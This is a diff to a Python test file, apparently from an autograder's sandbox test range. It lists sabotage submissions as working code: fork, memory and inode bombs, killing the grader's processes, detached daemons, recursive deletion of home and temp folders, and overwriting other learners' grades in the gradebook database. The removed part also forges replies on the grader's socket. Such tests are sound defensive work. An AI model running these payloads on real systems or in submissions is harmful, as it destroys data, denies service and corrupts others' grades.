@@ -1,4 +1,7 @@
-"""Sabotage: the grader, the machine and the others are to come to harm. One solved exercise must keep its points."""
+"""Sabotage: the grader, the machine and the others are to come to harm.
+
+One exercise is solved. Where an honest learner might have made the mistake, it must keep its points.
+"""
 
 from tests.range.attack import code
 
@@ -12,6 +15,11 @@ def harm(name, goal, after="", **options):
     code("sabotage", name, goal, after=after, **({"solved": SOLVED} | options))
 
 
+def malice(name, goal, after="", **options):
+    """Nothing that happens by mistake: what becomes of the points is the author's own affair."""
+    harm(name, goal, after, free=SOLVED, **options)
+
+
 # ---- without end -----------------------------------------------------------------------------------------------------
 
 harm("endless-cell", "a cell that never ends", "while True:\n    pass", quick=True)
@@ -23,7 +31,7 @@ harm(
         "sdpa": "def sdpa(*args, **options):\n    while True:\n        pass",
     },
 )
-harm(
+malice(
     "endless-and-deaf",
     "a cell that never ends, swallows every exception and ignores every signal",
     """
@@ -98,7 +106,7 @@ harm(
     "memory in small pieces until there is none",
     "hoard = []\nwhile True:\n    hoard.append(bytearray(b'x') * 2**25)",
 )
-harm(
+malice(
     "memory-bomb-of-many",
     "several processes, each with a gigabyte",
     MARKED
@@ -112,7 +120,7 @@ for _ in range(12):
 time.sleep(5)
 """,
 )
-harm(
+malice(
     "memory-in-files",
     "memory in files that have no name, which no limit on address space counts",
     MARKED
@@ -133,14 +141,13 @@ harm(
     "a huge tensor as the answer",
     answers={"padding_mask": "def padding_mask(pad_mask):\n    return torch.zeros(2, 1, 1, 2**27, dtype=torch.bool)"},
 )
-harm(
+malice(
     "fork-bomb",
     "every process makes two more",
     MARKED + "import os, time\nend = time.time() + 10\nwhile time.time() < end:\n    try:\n        os.fork()\n"
     "    except OSError:\n        time.sleep(0.1)",
-    quick=True,
 )
-harm(
+malice(
     "thread-bomb",
     "ten thousand threads",
     "import threading, time\nfor _ in range(10_000):\n    threading.Thread(target=time.sleep, args=(30,)).start()",
@@ -159,7 +166,7 @@ for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "@ROOT@", os.path.expanduser
         print(folder, error)
 """,
 )
-harm(
+malice(
     "inode-bomb",
     "files without number",
     "import os\nfor i in range(300_000):\n    open(f'@MARK@-{i}', 'w').close()",
@@ -195,7 +202,7 @@ harm(
 
 # ---- killing ---------------------------------------------------------------------------------------------------------
 
-harm("exit-now", "Python ends at the first cell", "import os\nos._exit(0)", quick=True)
+harm("exit-now", "Python ends at the first cell", "import os\nos._exit(0)")
 harm(
     "exit-in-an-answer",
     "Python ends inside an exercise",
@@ -208,14 +215,14 @@ harm(
     "recursion without a limit",
     "import sys, json\nsys.setrecursionlimit(10**9)\ndef f(x):\n    return [f(x), json.dumps(x)]\nf(0)",
 )
-harm("stop-itself", "the process is stopped, not ended", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")
-harm(
+malice("stop-itself", "the process is stopped, not ended", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")
+malice(
     "kill-everyone",
     "every process that may be signalled, the parent first",
     "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\nos.kill(-1, signal.SIGKILL)",
     quick=True,
 )
-harm(
+malice(
     "kill-the-grader",
     "the grader's processes, found by name",
     """
@@ -232,8 +239,8 @@ for pid in range(2, 5000):
             pass
 """,
 )
-harm("close-everything", "every file descriptor is closed", "import os\nos.closerange(0, 4096)")
-harm(
+malice("close-everything", "every file descriptor is closed", "import os\nos.closerange(0, 4096)")
+malice(
     "limits-changed",
     "limits and priorities of the process and its parent",
     """
@@ -252,14 +259,14 @@ os.umask(0o777)
 
 # ---- staying ---------------------------------------------------------------------------------------------------------
 
-harm(
+malice(
     "daemon",
     "a process that detaches itself and stays",
     "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
     "        os.execv('/bin/sh', ['sh', '-c', 'trap \"\" TERM HUP INT; sleep 120; : @MARK@'])\n    os._exit(0)",
     quick=True,
 )
-harm(
+malice(
     "listener",
     "a server that stays open",
     MARKED
@@ -275,7 +282,7 @@ if os.fork() == 0:
         os._exit(0)
 """,
 )
-harm(
+malice(
     "poisoned-startup",
     "start-up files that break what is run after it",
     """
@@ -291,13 +298,13 @@ for home in {os.path.expanduser("~"), "@ROOT@/home"}:
             print(error)
 """,
 )
-harm(
+malice(
     "everything-deleted",
     "whatever can be deleted is",
     "import shutil, os\nfor place in ('@ROOT@', os.path.expanduser('~'), '/tmp', '/dev/shm', '/var/tmp', '/learner'):\n"
     "    shutil.rmtree(place, ignore_errors=True)",
 )
-harm(
+malice(
     "doors-closed",
     "every file is made unreadable",
     """
@@ -310,7 +317,7 @@ for place, _, names in os.walk("@ROOT@", topdown=False):
             pass
 """,
 )
-harm(
+malice(
     "classmates-altered",
     "the others' submissions, grades and feedback are overwritten",
     """
@@ -333,12 +340,12 @@ book.execute("update grade set manual_score = {score}, needs_manual_grade = 0 wh
              [os.getcwd().split(os.sep)[-2]])
 book.commit()
 """
-harm(
+malice(
     "gradebook-of-others",
     "everybody else gets nothing",
     "import os\n" + BOOK.format(score=0, whose="not in"),
 )
-harm(
+malice(
     "gradebook-locked",
     "the gradebook is locked for as long as possible",
     "import os, sqlite3, time\nif os.fork() == 0:\n    os.setsid()\n    " + MARKED.replace("\n", "\n    ")
@@ -354,38 +361,3 @@ code(
     + BOOK.format(score=2, whose="in").replace("\n", "\n            ")
     + "\n        except Exception:\n            pass\n    os._exit(0)",
 )  # fmt: skip
-
-# ---- the line to the grader ------------------------------------------------------------------------------------------
-
-FORGE = """
-import sys, socket
-frame, line = sys._getframe(), None
-while frame is not None and line is None:
-    line = next((v for v in frame.f_locals.values() if isinstance(v, socket.socket)), None)
-    frame = frame.f_back
-def reply(body, length=None):
-    if line is not None:
-        line.sendall((len(body) if length is None else length).to_bytes(8, "little") + body)
-def header(text):
-    return len(text).to_bytes(8, "little") + text
-"""
-REPLIES = {
-    "claims-nonsense": """reply(header(b'{"dict":[["calls",{"list":[1,null]}],["problem",7],["printed",0]]}'))""",
-    "claims-odd-numbers": """
-output = b'{"dict":[["output_type","stream"],["name",1e999],["text",NaN]]}'
-reply(header(b'{"dict":[["outputs",{"list":[' + output + b']}]]}'))
-""",
-    "claims-deep": """reply(header(b'{"list":[' * 200_000))""",
-    "claims-a-bomb": """reply(header(b'{"list":[' + b"{}," * 20_000_000 + b"{}]}"))""",
-    "claims-too-much": "reply(b'x', 2**62)",
-    "claims-slowly": """
-import time
-reply(b"", 2**20)
-while line:
-    line.send(b"x")
-    time.sleep(0.5)
-""",
-    "claims-a-flood": "while line:\n    reply(bytes(2**20))",
-}
-for name, source in REPLIES.items():
-    harm(name, f"forged messages on the line to the grader: {name}", FORGE + source)
